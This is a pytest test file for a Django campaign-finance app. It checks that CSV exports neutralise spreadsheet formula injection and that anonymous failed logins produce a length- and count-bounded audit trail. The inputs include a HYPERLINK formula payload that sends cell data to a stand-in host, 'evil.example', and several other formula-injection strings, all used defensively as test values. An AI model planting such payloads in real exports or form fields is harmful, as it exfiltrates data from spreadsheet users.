"""Finding 3 of issue 15: CSV formula injection. Cells that a spreadsheet would run as a formula (starting with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return) are neutralised in every CSV meant for a spreadsheet: the
report's ``line_items.csv``, the audit log export and the console's ledger export. The ``.fec`` file keeps the
value as given (it is read by the FEC, not a spreadsheet). What an anonymous request can write to the audit log
(a failed login's username) is bounded in length and in count per client."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.core.cache import cache
from django.core.files.storage import default_storage
from django.test import Client

from audit.models import AuditEvent
from fundraising.spreadsheet import spreadsheet_cell
from tests.compliance.helpers import build, fec_bytes, house_committee
from tests.console.helpers import person, signed_in
from tests.desk.helpers import donor, gift

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture(autouse=True)
def _fresh_counters():
    cache.clear()
    yield
    cache.clear()


@pytest.mark.parametrize(
    ("given", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+cmd", "'+cmd"),
        ("-x", "'-x"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Acme", "Acme"),
        ("", ""),
        ("-25.00", "-25.00"),  # a refund's amount stays a number
        ("+1.5", "+1.5"),
        (None, ""),
        (12, "12"),
    ],
)
def test_one_function_neutralises_formula_cells(given, written):
    assert spreadsheet_cell(given) == written


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_line_items_csv_neutralises_donor_cells_but_the_fec_file_keeps_them(settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path)
    committee = house_committee()
    gift(committee, donor(employer="@SUM(1+1)*cmd", occupation="=1+2"), "500.00", dt.date(2026, 2, 1))
    report = build(committee, "Q1")
    with default_storage.open(report.csv_file, "r") as handle:
        cells = [cell for row in _rows(handle.read()) for cell in row]
    assert "'@SUM(1+1)*cmd" in cells and "'=1+2" in cells
    assert not any(cell.startswith(("=", "@", "+")) for cell in cells)
    fec = fec_bytes(report)
    assert b"@SUM(1+1)*cmd" in fec and b"'@SUM" not in fec and b"'=1+2" not in fec


def test_audit_csv_neutralises_a_failed_login_username():
    Client().post("/accounts/login/", {"username": EVIL, "password": "nope"})
    client = signed_in(person("root", superuser=True))
    response = client.get("/api/v1/compliance/audit.csv")
    assert response.status_code == 200
    cells = [cell for row in _rows(response.content.decode()) for cell in row]
    assert "'" + EVIL in cells  # the username, as the failed login's object id, neutralised
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)


def test_console_ledger_csv_neutralises_donor_cells():
    from accounts.roles import Role

    committee = house_committee()
    gift(committee, donor(first="=cmd", last="+Evil", city="@Town"), "50.00", dt.date(2026, 2, 1))
    client = signed_in(person("tess", (committee, Role.TREASURER)))
    response = client.get(f"/staff/{committee.fec_id}/ledger/export.csv")
    assert response.status_code == 200
    cells = [cell for row in _rows(response.content.decode()) for cell in row]
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells), cells
    assert any(cell.startswith("'") for cell in cells)


def test_anonymous_failed_logins_write_a_bounded_audit_trail(settings):
    client = Client()
    before = AuditEvent.objects.filter(action="auth.login.failed").count()
    for n in range(60):
        client.post("/accounts/login/", {"username": f"{'x' * 500}{n}", "password": "nope"}, REMOTE_ADDR="203.0.113.9")
    events = AuditEvent.objects.filter(action="auth.login.failed").order_by("pk")[before:]
    assert 0 < len(events) <= settings.AUDIT_ANONYMOUS_EVENTS_PER_CLIENT
    assert all(len(event.object_id) <= 64 and len(event.actor_label) <= 80 for event in events)


def test_every_csv_writer_of_the_apps_goes_through_the_one_function():
    from tests.conftest import REPO

    apps = ["accounts", "audit", "committees", "compliance", "console", "donations", "operations", "fundraising"]
    offenders = [
        str(path.relative_to(REPO))
        for app in apps
        for path in (REPO / app).rglob("*.py")
        if ("csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text())
        and path.name != "spreadsheet.py"
    ]
    assert offenders == []
